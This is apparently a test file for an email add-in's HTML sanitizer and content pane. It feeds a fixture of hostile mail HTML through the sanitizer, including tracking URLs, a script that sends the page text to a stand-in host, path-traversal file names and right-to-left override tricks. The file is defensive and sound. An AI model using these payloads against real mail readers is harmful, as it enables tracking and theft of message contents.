// @vitest-environment jsdom
import { cleanup, fireEvent } from "@testing-library/react";
import { afterEach, describe, expect, it, vi } from "vitest";
import type { ContentAttachment, MessageContent } from "../../src/core/message-content.js";
import { MessageContentView, downloadName } from "../../src/taskpane/components/MessageContentView.js";
import { CONTENT_SECURITY_POLICY, messageDocument, sanitizeCss } from "../../src/taskpane/safe-html.js";
import { checkFixture, renderPane, renderResult, seriousViolations } from "./pane-kit.js";

afterEach(cleanup);

const EVIL = "evil.example";
const PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg==";

/** Every way a mail body can make a reader's client fetch something, each pointing at EVIL. */
const HOSTILE_HTML = `
<style>
  @import url("https://${EVIL}/import.css");
  @import 'http://${EVIL}/import2.css';
  @font-face { font-family: x; src: url(https://${EVIL}/font.woff2) format("woff2"); }
  body { background: url(http://${EVIL}/bg.png) }
  .a { background-image: image-set("https://${EVIL}/set.png" 1x) }
  .b { cursor: url(//${EVIL}/cursor.cur), auto }
  .c { list-style-image: url( 'https://${EVIL}/bullet.png' ) }
</style>
<style>.d { color: red }</style>
<link rel="stylesheet" href="https://${EVIL}/link.css">
<link rel="prefetch" href="https://${EVIL}/prefetch">
<meta http-equiv="refresh" content="0;url=https://${EVIL}/refresh">
<base href="https://${EVIL}/">
<img src="https://${EVIL}/pixel.gif" srcset="https://${EVIL}/a.png 1x, https://${EVIL}/b.png 2x" alt="remote">
<img src="http://${EVIL}/x.png" style="background:url('https://${EVIL}/y.png')">
<picture><source srcset="https://${EVIL}/p.webp"><img src="data:image/png;base64,${PNG_1PX}" alt="inline"></picture>
<iframe src="https://${EVIL}/frame"></iframe>
<frameset><frame src="https://${EVIL}/frame2"></frameset>
<form action="https://${EVIL}/post"><input name="q" value="secret"><button formaction="https://${EVIL}/x">Go</button></form>
<script src="https://${EVIL}/s.js"></script>
<script>new Image().src = "https://${EVIL}/" + document.body.textContent</script>
<a href="https://${EVIL}/link" ping="https://${EVIL}/ping" target="_blank">a link</a>
<a href="#section">a fragment link</a>
<table background="https://${EVIL}/t.png"><tr><td background="http://${EVIL}/td.png">cell</td></tr></table>
<video poster="https://${EVIL}/poster.png" src="https://${EVIL}/v.mp4"></video>
<audio src="https://${EVIL}/a.mp3"></audio>
<svg><image href="https://${EVIL}/svg.png"/><use xlink:href="https://${EVIL}/sprite.svg#x"/></svg>
<object data="https://${EVIL}/o.swf"></object><embed src="https://${EVIL}/e.swf">
<div style="background-image:url(https://${EVIL}/d.png)">styled</div>
<div style="background: \\75 rl(https://${EVIL}/escaped.png)">escaped</div>
<blockquote cite="https://${EVIL}/cite">quoted</blockquote>
<noscript><img src="https://${EVIL}/noscript.png"></noscript>
<p class="d">Visible text</p>
<img src="cid:logo@example.jp" alt="logo">
`;

const attachment = (name: string, type: string, bytes: Uint8Array, contentId: string | null = null): ContentAttachment => ({
  name,
  type,
  bytes,
  contentId,
});
const logo = attachment("logo.png", "image/png", Uint8Array.from(atob(PNG_1PX), (c) => c.charCodeAt(0)), "logo@example.jp");

const content = (change: Partial<MessageContent>): MessageContent => ({
  source: "opaque-signed",
  text: null,
  html: null,
  attachments: [],
  ...change,
});

function frameOf(container: HTMLElement): HTMLIFrameElement {
  const frame = container.querySelector<HTMLIFrameElement>('iframe[data-test="content-html"]');
  expect(frame).not.toBeNull();
  return frame!;
}

describe("hostile HTML in the content view", () => {
  it("becomes a sandboxed frame whose document names no remote URL", () => {
    const { container } = renderPane(<MessageContentView content={content({ html: HOSTILE_HTML, attachments: [logo] })} lang="en" locale="en-US" />);
    const frame = frameOf(container);
    expect(frame.getAttribute("sandbox")).toBe("");
    const srcdoc = frame.getAttribute("srcdoc") ?? "";
    expect(srcdoc).not.toMatch(/https?:/i);
    expect(srcdoc).not.toContain(EVIL);
    expect(srcdoc).toContain("Visible text");
    expect(srcdoc).toContain("a link");
    expect(srcdoc).toContain("cell");
  });

  it("puts the policy before the message and leaves nothing that fetches, runs or submits", () => {
    const doc = new DOMParser().parseFromString(messageDocument(HOSTILE_HTML, new Map([["logo@example.jp", "data:image/png;base64,AA=="]])), "text/html");
    const policy = doc.head.querySelector('meta[http-equiv="Content-Security-Policy"]');
    expect(policy?.getAttribute("content")).toBe(CONTENT_SECURITY_POLICY);
    expect(CONTENT_SECURITY_POLICY).toBe("default-src 'none'; style-src 'unsafe-inline'; img-src data:");
    expect(doc.body.querySelectorAll("script, iframe, frame, form, input, button, link, meta, base, object, embed, video, audio, source, svg, noscript")).toHaveLength(0);
    for (const el of Array.from(doc.body.querySelectorAll("*"))) {
      for (const attr of ["srcset", "background", "poster", "action", "formaction", "ping", "cite", "target"]) expect(el.hasAttribute(attr), `${el.tagName} ${attr}`).toBe(false);
      const src = el.getAttribute("src");
      if (src !== null) expect(src).toMatch(/^data:image\//);
      const href = el.getAttribute("href");
      if (href !== null) expect(href).toMatch(/^#/);
    }
    expect(Array.from(doc.body.querySelectorAll("img")).map((i) => i.getAttribute("alt"))).toEqual(["remote", null, "inline", "logo"]);
    expect(doc.body.querySelector('img[alt="logo"]')?.getAttribute("src")).toBe("data:image/png;base64,AA==");
    // Harmless styles survive, so a mail still looks as meant.
    expect(Array.from(doc.body.querySelectorAll("style")).map((e) => e.textContent)).toEqual(["", ".d { color: red }"]);
  });

  it("shows no frame with scripts or same-origin for a plain HTML mail either", () => {
    const { container } = renderPane(<MessageContentView content={content({ html: "<p>Hello</p>" })} lang="ja" locale="ja-JP" />);
    const frame = frameOf(container);
    expect(frame.getAttribute("sandbox")).toBe("");
    expect(frame.getAttribute("srcdoc")).toContain("<p>Hello</p>");
  });
});

describe("sanitizeCss", () => {
  it.each([
    `@import url("https://${EVIL}/a.css");`,
    `@import "https://${EVIL}/a.css" screen;`,
    `@font-face { font-family: f; src: url(https://${EVIL}/f.woff) }`,
    `a { background: url(https://${EVIL}/a.png) }`,
    `a { background: url("//${EVIL}/a.png") }`,
    `a { background-image: -webkit-image-set("https://${EVIL}/a.png" 1x) }`,
    `a { mask: url(#m), url(https://${EVIL}/m.svg) }`,
    `a { background: \\75 rl(https://${EVIL}/a.png) }`,
    `a { background: url(https://${EVIL}/unclosed.png`,
    `a { content: "https://${EVIL}/" }`,
    `a { background: url(https://${EVIL}/a.png) /* */ }`,
  ])("takes the remote reference out of %s", (css) => {
    expect(sanitizeCss(css)).not.toContain(EVIL);
  });

  it("keeps ordinary styles and data: images", () => {
    const css = `p { color: #333; font-family: "Segoe UI", sans-serif } i { background: url(data:image/png;base64,${PNG_1PX}) }`;
    expect(sanitizeCss(css)).toBe(css);
  });
});

describe("content view", () => {
  it("shows nothing for a message Outlook displays itself", () => {
    const { container } = renderPane(<MessageContentView content={content({ source: "host" })} lang="en" locale="en-US" />);
    expect(container.querySelector('[data-test="message-content"]')).toBeNull();
  });

  it.each(["encrypted", "unreadable"] as const)("says why there is nothing to show for %s", (source) => {
    const { container } = renderPane(<MessageContentView content={content({ source })} lang="en" locale="en-US" />);
    expect(container.querySelector<HTMLElement>('[data-test="message-content"]')?.dataset.source).toBe(source);
    expect(container.querySelector("iframe, pre")).toBeNull();
  });

  it("shows text as text, line breaks kept and deceptive characters made visible", () => {
    const { container } = renderPane(
      <MessageContentView content={content({ text: "Dear Taro,\r\nsee <b>invoice\u202Etxt.exe</b>\r\n" })} lang="en" locale="en-US" />,
    );
    const pre = container.querySelector('[data-test="content-text"]');
    expect(pre?.textContent).toBe("Dear Taro,\nsee <b>invoice\\u{202E}txt.exe</b>\n");
    expect(pre?.querySelector("b")).toBeNull();
  });

  it("switches between the formatted and the plain-text form", () => {
    const { container } = renderPane(<MessageContentView content={content({ text: "plain", html: "<p>rich</p>" })} lang="en" locale="en-US" />);
    expect(container.querySelector('[data-test="content-text"]')).toBeNull();
    fireEvent.click(container.querySelector('[data-test="content-as-text"]')!);
    expect(container.querySelector('[data-test="content-text"]')?.textContent).toBe("plain");
    expect(container.querySelector("iframe")).toBeNull();
  });

  it("lists attachments with visible names and saves one as a download", () => {
    const createObjectURL = vi.fn((_: Blob) => "blob:inkan-test");
    const revokeObjectURL = vi.fn();
    vi.stubGlobal("URL", Object.assign(URL, { createObjectURL, revokeObjectURL }));
    const clicks: HTMLAnchorElement[] = [];
    const click = vi.spyOn(HTMLAnchorElement.prototype, "click").mockImplementation(function (this: HTMLAnchorElement) {
      clicks.push(this);
    });
    try {
      const files = [attachment("invoice\u202Efdp.exe", "application/pdf", new Uint8Array([1, 2, 3])), logo];
      const { container } = renderPane(<MessageContentView content={content({ text: "see attached", attachments: files })} lang="en" locale="en-US" />);
      const items = Array.from(container.querySelectorAll<HTMLElement>('[data-test="attachment"]'));
      expect(items.map((i) => i.dataset.type)).toEqual(["application/pdf", "image/png"]);
      expect(items[0]!.textContent).toContain("invoice\\u{202E}fdp.exe");
      fireEvent.click(items[0]!.querySelector('[data-test="save-attachment"]')!);
      expect(clicks).toHaveLength(1);
      expect(clicks[0]!.download).toBe("invoice_u{202E}fdp.exe");
      expect(clicks[0]!.href).toBe("blob:inkan-test");
      expect(createObjectURL.mock.calls[0]![0].type).toBe("application/octet-stream");
      expect(createObjectURL.mock.calls[0]![0].size).toBe(3);
    } finally {
      click.mockRestore();
      vi.unstubAllGlobals();
    }
  });

  it("gives a saved file no path", () => {
    expect(downloadName("../../etc/passwd")).toBe("__.._etc_passwd");
    expect(downloadName("C:\\Windows\\evil.dll")).toBe("C:_Windows_evil.dll");
    expect(downloadName("")).toBe("attachment");
  });

  it("shows an opaque-signed message's body below a separator, after the badge and apart from it", async () => {
    const checked = await checkFixture("opaque-rsa");
    expect(checked.content.source).toBe("opaque-signed");
    const { container } = renderResult(checked);
    const badge = container.querySelector('[data-test="verdict-badge"]')!;
    const section = container.querySelector<HTMLElement>('[data-test="message-content"]')!;
    expect(section.dataset.source).toBe("opaque-signed");
    expect(badge.compareDocumentPosition(section) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
    expect(section.firstElementChild?.getAttribute("role")).toBe("separator");
    expect(section.querySelector('[role="status"], [data-test="verdict-badge"]')).toBeNull();
    expect(section.querySelector('[data-test="content-text"]')?.textContent).toContain("Example KK");
    expect(await seriousViolations(container)).toEqual([]);
  });

  it("shows nothing extra for a multipart/signed message, whose body Outlook shows", async () => {
    const { container } = renderResult(await checkFixture("detached-rsa"));
    expect(container.querySelector('[data-test="message-content"]')).toBeNull();
  });
});
